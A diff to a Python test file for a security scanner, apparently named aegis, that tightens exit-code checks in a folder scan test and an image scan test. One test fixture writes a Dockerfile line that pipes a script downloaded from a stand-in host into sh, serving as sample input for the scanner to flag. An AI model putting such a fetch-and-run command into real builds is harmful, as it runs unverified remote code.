@@ -100,7 +100,7 @@ def test_a_mixed_folder(aegis: Run, tmp_path: Path) -> None:
     (folder / "app" / "Dockerfile").write_text("FROM debian:12\nRUN curl http://example.com/x | sh\n", encoding="utf-8")
     (folder / "app" / "main.py").write_text("print('hello')\n", encoding="utf-8")
     done = aegis("source", "in", "-o", "sarif", cwd=tmp_path)
-    assert done.returncode in {1, 3}, done.stderr
+    assert done.returncode == 1, done.stderr
     document = json.loads(done.stdout)
     validator: Any = jsonschema.Draft4Validator(json.loads(SCHEMA.read_text(encoding="utf-8")))
     assert [error.message for error in validator.iter_errors(document)] == []
@@ -134,6 +134,6 @@ def test_a_database_that_is_not_there_is_no_answer(aegis: Run, tmp_path: Path) -
     write_image(tmp_path / "web.tar", debian("12.5", [(*ZLIB, "1:1.2.13.dfsg-1")]), tag="web:1")
     none = str(tmp_path / "empty")
     done = aegis("image", "./web.tar", "-o", "gitlab", cwd=tmp_path, AEGIS_SECURITY__TRIVY_CACHE=none)
-    assert done.returncode in {3, 69}
+    assert done.returncode == 3
     scan = json.loads(done.stdout)["scan"]
     assert (scan["status"], bool(scan["messages"])) == ("failure", True)
